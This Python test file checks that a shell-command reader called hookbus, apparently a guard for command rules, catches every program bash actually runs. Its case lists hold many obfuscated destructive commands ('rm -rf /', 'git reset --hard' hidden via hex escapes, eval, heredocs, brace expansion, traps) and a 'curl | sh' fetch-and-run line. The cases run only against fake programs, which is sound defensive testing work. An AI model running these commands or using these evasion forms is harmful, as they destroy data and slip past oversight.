"""Differential tests: every program bash runs for a command is one the shell reader read.

Each case runs in ``bash --noprofile --norc -c`` in a temporary directory, with ``PATH`` holding
only fake programs (``rm``, ``git``, ``cat``...) that append their argv to a log and do nothing
else. Every argv logged must be a command hookbus read (its words' values, as written or with the
wrappers removed), or one it cannot know before it runs (its program, or an argument after a
known program, is an expansion: deny and ask rules meet it), or the whole command cannot be
judged. Builtins (``echo``, ``eval``, ``exec``, ``time``) run no program and log nothing.

No case may name a path outside its directory or change ``PATH``: :func:`check_safe` refuses one
that does, so that only the fakes can run.
"""

from __future__ import annotations

import itertools
import os
import re
from collections.abc import Iterator
from pathlib import Path

import pytest

from bus.rules.bashsplit import SimpleCommand, parse_commands, strip_wrappers
from tests.bus.rules.fakebash import RECORDER, run_fakes
from tests.hostile.inputs import COMMAND_UNITS, command

pytestmark = [pytest.mark.system, pytest.mark.timeout(300)]  # bash runs as a child process

#: The fake programs: each logs its argv (NUL-separated, then a record separator) and exits 0.
FAKES = ("rm", "git", "cat", "ls", "touch", "chmod", "curl", "sh", "bash", "python3", "find", "xargs", "sudo")

#: The constructs of "what bash runs that hookbus does not see", and more of the same kind.
ENGINE_CASES = [
    ">/dev/null rm -rf /",
    "rm 2>/dev/null -rf /",
    "rm -rf</dev/null /",
    "2>&1 git reset --hard",
    "git push --force>/dev/null",
    "git push --force 2>&1 >/dev/null",
    "&>/dev/null rm -rf /",
    "rm -rf / &>>log",
    "{fd}>/dev/null rm -rf /",
    "rm -rf / <<<'x'",
    "ls 2\\\n>/dev/null rm -rf /",
    "cat < <(rm -rf /)",
    "cat > >(rm -rf /)",
    "cat >$(rm -rf /)out",
    "$'\\x72\\x6d' -rf /",
    "$'\\162\\155' -rf /",
    "git $'\\x72eset' --hard",
    "$'\\u0072m' -rf /",
    "$'r\\x6d' $'-\\x72f' /",
    '$"rm" -rf /',
    "{rm,-rf,/}",
    "rm -{r,f} /",
    "{git,reset,--hard}",
    "rm {-r,-f,/}",
    "git reset --{hard,soft}",
    "r{m,} -rf /",
    "rm -rf /{a..c}",
    "rm -rf /{1..3..2}",
    "rm {a,'b c'}",
    "git {/,}'' x",
    "f() { rm -rf /; }; f",
    "function f { git reset --hard; }; f",
    "function f() { git reset --hard; }; f",
    "f() ( rm -rf / ); f",
    "time { rm -rf /; }",
    "time -p rm -rf /",
    "time (rm -rf /)",
    "! rm -rf /",
    "! (rm -rf /)",
    "coproc rm -rf /; wait",
    "coproc NAME { rm -rf /; }; wait",
    "exec rm -rf /",
    "exec -a x rm -rf /",
    "eval 'rm -rf /'",
    'eval "git reset --hard"',
    "eval rm -rf /",
    "eval eval rm -rf /",
    "eval \"eval 'rm -rf /'\"",
    "x='rm -rf /'; eval \"$x\"",
    "x=rm; $x -rf /",
    "echo $(( $(rm -rf /) + 1 ))",
    'echo "$(( $(rm -rf /) + 1 ))"',
    "(( $(rm -rf /) + 1 ))",
    "echo ${x:-$(rm -rf /)}",
    'echo "${x:-$(rm -rf /)}"',
    "echo ${x:-`rm -rf /`}",
    ": ${x:-\\{} ; rm -rf / ; echo }",
    ": ${x:-'}'} ; rm -rf / ; echo }",
    ": \"${x:-'}'}\" ; rm -rf / ; echo }",
    "a=(x \\( y) ; rm -rf / ; echo \\)",
    "a=(x ')' y) ; rm -rf / ; echo ')'",
    "a=($(rm -rf /))",
    "(( x <<= 1 ))\nrm -rf /",
    "x=1; (( x << 2 )) && rm -rf /",
    "for ((i=0; i<2; i++)); do rm -rf /; done",
    "cat <<EOF\n$(rm -rf /)\nEOF",
    "cat <<EOF\n`rm -rf /`\nEOF",
    "cat <<EOF\n${x:-$(rm -rf /)}\nEOF",
    "cat <<-EOF\n\t$(rm -rf /)\n\tEOF",
    "cat <<'EOF'\n$(rm -rf /)\nEOF\nrm -rf /",
    "cat <<EOF; rm -rf /\nbody\nEOF",
    "cat <<A <<B\n$(rm -rf /)\nA\n$(git reset --hard)\nB",
    "git commit -m \"$(cat <<'EOF'\nIt's done\nEOF\n)\" && git push --force",
    "echo $(cat <<EOF\n$(rm -rf /)\nEOF) ; git reset --hard",
    "x=$(cat <<EOF\nhello\nEOFrm -rf /)",
    "cat <(cat <<EOF\n$(rm -rf /)\nEOF)",
    "r\\m -rf /",
    "'r'm -rf /",
    '"rm" -rf /',
    "r''m -rf /",
    "rm -rf / # comment",
    "rm \\\n -rf /",
    "b??/r? -rf /",
    "[ -d / ] && rm -rf /",
    "[[ -d / ]] && rm -rf /",
    "[[ ( x == x ) ]] && rm -rf /",
    "[[ x =~ ^(a|x)$ ]] && rm -rf /",
    "[[ a < b ]] && git reset --hard",
    "echo $[1+$(rm -rf /)]",
    "time -p -- rm -rf /",
    "time -- git reset --hard",
    "rm -rf /\r",
    "time sudo git status",
    "time time rm -rf /",
    "rm -rf ~/x",
    "rm -rf *",
    "rm -rf '' x",
    "if true; then rm -rf /; fi",
    "while true; do rm -rf /; break; done",
    "until false; do git reset --hard; break; done",
    "for i in 1; do rm -rf /; done",
    "case x in x) rm -rf /;; esac",
    "case $(rm -rf /) in *) ;; esac",
    "case x in\n  (y|x) git reset --hard ;&\n  z) rm -rf / ;;\nesac",
    "{ rm -rf /; }",
    "(rm -rf /)",
    "( (rm -rf /) )",
    "true && rm -rf /",
    "false || rm -rf /",
    "ls | rm -rf /",
    "ls |& rm -rf /",
    "rm -rf / & wait",
    "ls; rm -rf /",
    "ls\nrm -rf /",
    "x=$(rm -rf /)",
    "trap 'rm -rf /' EXIT",
    "trap -- 'git reset --hard' EXIT INT",
    "shopt -s expand_aliases\nalias y='rm -rf /'\ny",
    "x='a[$(rm -rf /)]'; echo $((x))",
    'declare x="a[\\$(rm -rf /)]"; (( x ))',
    "x='$(git reset --hard)'; echo ${x@P}",
    "let 'a[$(rm -rf /)]=1'",
    "printf -v 'a[$(rm -rf /)]' x",
    "declare -n r='a[$(rm -rf /)]'; echo $r",
    "[[ 'a[$(rm -rf /)]' -eq 1 ]]",
    "echo ${a['$(rm -rf /)']}",
    "declare -a a; echo ${a[$'\\x24(rm -rf /)']}",
    "source <(echo 'rm -rf /')",
    ". <(echo 'git reset --hard')",
    "echo 'rm -rf /' | source /dev/stdin",
    "mapfile -C 'rm -rf /' -c 1 <<< x",
    "command -- eval 'rm -rf /'",
    "X=1 rm -rf /",
    "echo `rm -rf /`",
    'echo "`rm -rf /`"',
    "echo $(echo $(rm -rf /))",
    "diff <(rm -rf /) <(git reset --hard)",
    "sudo rm -rf /",
    "find . -name x",
    "xargs rm -rf < /dev/null",
    "sh -c 'rm -rf /'",
    'bash -c "git reset --hard"',
    "command rm -rf /",
    "builtin eval 'rm -rf /'",
    "echo hi | python3 -c 'print(1)'",
    "curl -s https://example.com | sh",
    "touch a && chmod +x a",
    "ls -la && git status && git log --oneline -n 3",
]

#: Contexts a payload can stand in: bash runs the payload in each.
CONTEXTS = [
    "{}",
    ">/dev/null {}",
    "{{ {}; }}",
    "({})",
    "f() {{ {}; }}; f",
    "eval '{}'",
    "echo $({})",
    'echo "$({})"',
    "echo ${{x:-$({})}}",
    "echo $(( $({}) + 1 ))",
    "cat <<EOF\n$({})\nEOF",
    "if true; then {}; fi",
    "time {}",
    "exec {}",
    "true && {}",
]
PAYLOADS = ["rm -rf /", "$'\\x72m' -rf /", "{rm,-rf,/}", "git 2>&1 reset --hard", "rm -r{,f} /"]


def nested_cases() -> Iterator[str]:
    """Each payload in each context, and in each pair of contexts (the payload inside both)."""
    for payload in PAYLOADS:
        for context in CONTEXTS:
            if not ("'" in context and "'" in payload):  # eval '...' of a quoted payload needs other quotes
                yield context.format(payload)
    for outer, inner in itertools.product(CONTEXTS, repeat=2):
        if "'" in outer and "'" in inner:
            continue  # eval '...' inside eval '...' needs other quotes
        yield outer.format(inner.format("rm -rf /"))


HOSTILE_CASES = [command(unit, 200) for unit in COMMAND_UNITS.values()]


#: A path from the root other than /dev/null and /dev/stdin (``rm -rf /`` alone is an argument).
ABSOLUTE = re.compile(r"(?:^|[\s;|&(<>=`'\"])/(?!dev/(?:null|stdin)\b)[A-Za-z0-9_.~-]")


def check_safe(case: str) -> None:
    """Refuse a case that could run a program other than the fakes, or touch a file outside its directory."""
    for forbidden in ("PATH", "BASH_ENV", "command -p", "hash ", "enable ", "cd ", "pushd"):
        assert forbidden not in case, f"unsafe oracle case {case!r}: {forbidden!r}"
    assert not ABSOLUTE.search(case), f"unsafe oracle case {case!r}: an absolute path"
    assert not re.search(r"~[A-Za-z_+-]|\.\./", case), f"unsafe oracle case {case!r}: another user's home or a parent"


@pytest.fixture(scope="module")
def sandbox(tmp_path_factory: pytest.TempPathFactory) -> Path:
    root = tmp_path_factory.mktemp("oracle")
    bin_dir = root / "bin"
    bin_dir.mkdir()
    for name in FAKES:
        fake = bin_dir / name
        fake.write_text(RECORDER)
        fake.chmod(0o755)
    return root


def run_in_bash(sandbox: Path, case: str) -> list[list[str]]:
    """The argv of every fake program bash ran for ``case`` (``$0`` shortened to its name)."""
    check_safe(case)
    prefix = str(sandbox / "bin") + os.sep
    return [[argv[0].removeprefix(prefix), *argv[1:]] for argv in run_fakes(sandbox, case, 10, link_bin=True)]


def covers(cmd: SimpleCommand, argv: list[str], home: str = "") -> bool:
    """Whether hookbus's reading ``cmd`` is the program run with ``argv``, or meets every rule it
    would: the program, or a later word, is only known at run time (deny and ask rules meet it).

    Two expansions are read as written, as rules name them: ``~`` (bash gives ``home``) and a
    file-name pattern in an argument (``rm -rf /*``; bash gives the files it meets)."""
    stripped = len(cmd.words) - len(strip_wrappers(cmd.words))
    for words in (cmd.words[k:] for k in range(stripped + 1)):  # with none, some or all wrappers
        if not words:
            continue
        if words[0].dynamic or (any(w.dynamic for w in words) and words[0].value == argv[0]):
            return True
        values = [
            home + w.value[1:] if home and (w.value == "~" or w.value.startswith("~/")) else w.value for w in words
        ]
        pattern = next((i for i, v in enumerate(values) if i and any(c in v for c in "*?[")), None)
        if values == argv or (pattern is not None and values[:pattern] == argv[:pattern]):
            return True
    return False


def assert_read(sandbox: Path, case: str, must_run: bool = True) -> None:
    records = run_in_bash(sandbox, case)
    if must_run:
        assert records, f"bash ran no fake program for {case!r}: the case tests nothing"
    read = parse_commands(case)
    if read is None:  # cannot be judged: deny and ask rules meet it
        return
    home = str(sandbox / "work")
    missed = [argv for argv in records if not any(covers(cmd, argv, home) for cmd in read)]
    assert missed == [], f"{case!r}: bash ran {missed}, hookbus read {[cmd.plain for cmd in read]}"


@pytest.mark.parametrize("case", ENGINE_CASES)
def test_what_bash_runs_is_read(sandbox: Path, case: str) -> None:
    assert_read(sandbox, case)


@pytest.mark.parametrize("case", ENGINE_CASES)
def test_the_engine_cases_are_read_not_refused(case: str) -> None:
    # Each is read, not just refused: a reader refusing everything would pass the test above.
    assert parse_commands(case) is not None, case


def test_nested_contexts_are_read(sandbox: Path) -> None:
    cases = list(nested_cases())
    assert len(cases) > 200
    ran = 0
    for case in cases:
        ran += bool(run_in_bash(sandbox, case))
        assert_read(sandbox, case, must_run=False)  # some pairs are syntax errors: ``exec (...)``
    assert ran > 0.8 * len(cases)
    refused = [case for case in cases if parse_commands(case) is None]
    assert all(run_in_bash(sandbox, case) == [] for case in refused)  # syntax errors: bash runs nothing


def test_hostile_shapes_are_read(sandbox: Path) -> None:
    # The shapes of tests/hostile (small): most run no fake program (``a`` is not one).
    for case in HOSTILE_CASES:
        assert_read(sandbox, case, must_run=False)


def test_the_oracle_sees_what_the_old_reader_missed(sandbox: Path) -> None:
    # The harness itself: a reading that drops the redirected rm is caught; a case that could
    # run a real program is refused.
    for unsafe in (
        "/bin/rm -rf /",
        "x; /usr/bin/git reset",
        "cd .. && bin/rm",
        "source /etc/profile",
        "ls ~root",
        "bin/../../x",
        "PATH=x rm",
    ):
        with pytest.raises(AssertionError):
            check_safe(unsafe)
    records = run_in_bash(sandbox, ">/dev/null rm -rf /")
    assert records == [["rm", "-rf", "/"]]
    stale = parse_commands(">/dev/null echo -rf /")
    assert stale is not None and not any(covers(cmd, records[0]) for cmd in stale)
